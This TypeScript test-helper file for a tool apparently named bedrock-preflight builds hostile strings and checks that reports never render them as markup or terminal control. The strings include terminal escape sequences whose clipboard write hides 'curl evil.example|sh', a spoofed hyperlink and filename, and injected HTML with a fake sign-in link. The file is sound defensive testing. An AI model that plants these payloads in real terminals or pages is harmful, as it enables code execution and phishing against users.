/** Hostile text for the tests of issue 28: what no output may show as markup or control. */
import type { Report } from '../../src/engine/types.js'
import type { Redactor } from '../../src/secrets/redactor.js'
import { publicationOf } from '../../src/action/publication.js'
import { reportText } from '../../src/cli/run.js'

/** OSC 52 (clipboard write), CSI 2J (clear screen), OSC 8 (hyperlink), U+202E (right-to-left). */
export const CONTROL_TEXT =
  '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007\u001b[2J\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\ \u202egnp.exe'

/** HTML that closes our details block, an image, a link and a bare URL. */
export const MARKUP_TEXT =
  '</details><img src=https://evil.example/p.png>[Sign in again](https://evil.example/login) https://evil.example'

/** C0 but tab and line feed, DEL, C1, and the bidirectional formatting characters. */
export const CONTROLS =
  // eslint-disable-next-line no-control-regex -- what no output may hold
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/

/** SGR colour sequences (the terminal renderer's own) removed, to look for any other control. */
export const withoutColours = (text: string): string =>
  // eslint-disable-next-line no-control-regex -- the renderer's own colours
  text.replace(/\u001b\[[0-9;]*m/g, '')

/** Where a fenced code block (CommonMark 4.5) opens: up to 3 spaces, then 3+ backticks or tildes. */
const FENCE = /^ {0,3}(`{3,}|~{3,})/

/**
 * Raw HTML, links and images GitHub would render from a summary, read the CommonMark way (an
 * implementation of its own, not the renderer's): fenced blocks are text; in each paragraph a
 * backslash escapes the punctuation after it, a run of n backticks opens a code span that the
 * next run of exactly n closes, and what is left is searched for a tag, a link or an autolink.
 * The summary's own `<details><summary>`, `</details>` and `<sub>` lines are allowed; a details
 * title must hold no `<` at all (it is HTML).
 */
export function liveMarkup(markdown: string): string[] {
  const found: string[] = []
  const paragraphs: string[][] = [[]]
  let fence: string | undefined
  for (let line of markdown.split('\n')) {
    const run = FENCE.exec(line)?.[1]
    if (fence) {
      if (
        run &&
        run[0] === fence[0] &&
        run.length >= fence.length &&
        !line.slice(line.indexOf(run) + run.length).trim()
      )
        fence = undefined
      continue
    }
    if (run && !(run[0] === '`' && line.slice(line.indexOf(run) + run.length).includes('`'))) {
      fence = run
      paragraphs.push([])
      continue
    }
    const details = /^<details><summary>(.*)<\/summary>$/.exec(line)
    if (details) {
      if (details[1]!.includes('<')) found.push(details[1]!)
      paragraphs.push([])
      continue
    }
    if (line === '</details>') continue
    line = line.replace(/^<sub>(.*)<\/sub>$/, '$1')
    if (!line.trim()) paragraphs.push([])
    else paragraphs.at(-1)!.push(line)
  }
  for (const lines of paragraphs) {
    const text = lines.join('\n')
    let outside = ''
    for (let i = 0; i < text.length;) {
      if (text[i] === '\\' && /[!-/:-@[-`{-~]/.test(text[i + 1] ?? '')) {
        outside += '  '
        i += 2
        continue
      }
      if (text[i] === '`') {
        let n = 0
        while (text[i + n] === '`') n += 1
        let close = -1
        for (let j = i + n; j < text.length;) {
          let m = 0
          while (text[j + m] === '`') m += 1
          if (m === n) {
            close = j
            break
          }
          j += m || 1
        }
        if (close >= 0) {
          outside += ' '
          i = close + n
        } else {
          outside += text.slice(i, i + n)
          i += n
        }
        continue
      }
      outside += text[i]
      i += 1
    }
    found.push(
      ...(outside.match(/<\/?[a-z][^>]*>/gi) ?? []),
      ...(outside.match(/!?\[[^\]]*\]\([^)]*evil[^)]*\)/g) ?? []),
      ...(outside.match(/(^|[\s*_~(])(https?:\/\/|www\.)evil/g) ?? [])
    )
  }
  return found
}

/**
 * A report with a value of `text(place)` in every place a subject, a value or a message can
 * appear: subjects, titles (plain and in code), causes and fixes (plain, in code, in a fenced
 * block), observed lines, the AWS error, details, the file location, the caller, regions, models.
 */
export function reportWith(text: (place: string) => string): Report {
  const finding = (status: 'fail' | 'warn' | 'unverified' | 'pass', n: number) => ({
    checkId: status === 'pass' ? 'identity' : `model-id`,
    subject: text(`subject${n}`),
    messageId: 'm',
    status,
    title: `\`${text(`title-code${n}`)}\` is not usable: ${text(`title${n}`)}`,
    observed: [text(`observed${n}`), `error: ${text(`observed-error${n}`)}`],
    error: { code: 'ValidationException', message: text(`error${n}`), httpStatus: 400 },
    cause: `The model \`${text(`cause-code${n}`)}\` was refused: ${text(`cause${n}`)}`,
    fix: `Set \`BEDROCK_MODEL=${text(`fix-code${n}`)}\`, then:\n\n\`\`\`sh\naws bedrock get-inference-profile --inference-profile-identifier ${text(`fix-block${n}`)}\n\`\`\`\n\n${text(`fix${n}`)}`,
    docUrl: 'https://docs.aws.amazon.com/bedrock/latest/userguide/inference-profiles.html',
    details: [{ title: text(`details-title${n}`), body: text(`details-body${n}`) }],
    location: { file: text(`file${n}`), line: 3 }
  })
  const findings = [
    finding('fail', 1),
    finding('warn', 2),
    finding('unverified', 3),
    finding('pass', 4)
  ]
  return {
    schemaVersion: 1,
    tool: { name: 'bedrock-preflight', version: '1.0.0' },
    startedAt: '2026-12-07T22:00:00.000Z',
    durationMs: 1234,
    result: 'fail',
    regions: [text('region')],
    models: [text('model')],
    identity: { accountId: text('account'), arn: text('arn'), userId: text('user') },
    counts: { pass: 1, warn: 1, fail: 1, unverified: 1, skipped: 0 },
    findings
  }
}

/** Every text the two faces write of a report, through the functions they write with. */
export async function everyOutput(
  report: Report,
  redactor: Redactor
): Promise<
  Record<
    'summary' | 'annotations' | 'outputs' | 'reportFile' | 'terminal' | 'colour' | 'json',
    string
  >
> {
  const published = publicationOf(report, 'warning', redactor, { reportPath: '/tmp/r/report.json' })
  const plain = { isTTY: false, columns: 100 } as unknown as NodeJS.WriteStream
  return {
    summary: published.summary,
    annotations: [
      published.failed ?? '',
      published.info ?? '',
      ...published.annotations.flatMap((a) => [a.title, a.message, a.file ?? ''])
    ].join('\n'),
    outputs: Object.values(published.outputs).join('\n'),
    reportFile: published.reportJson,
    terminal: await reportText(report, redactor, { json: false, stdout: plain, env: {} }),
    colour: await reportText(report, redactor, {
      json: false,
      stdout: plain,
      env: { FORCE_COLOR: '1' }
    }),
    json: await reportText(report, redactor, { json: true, stdout: plain, env: {} })
  }
}
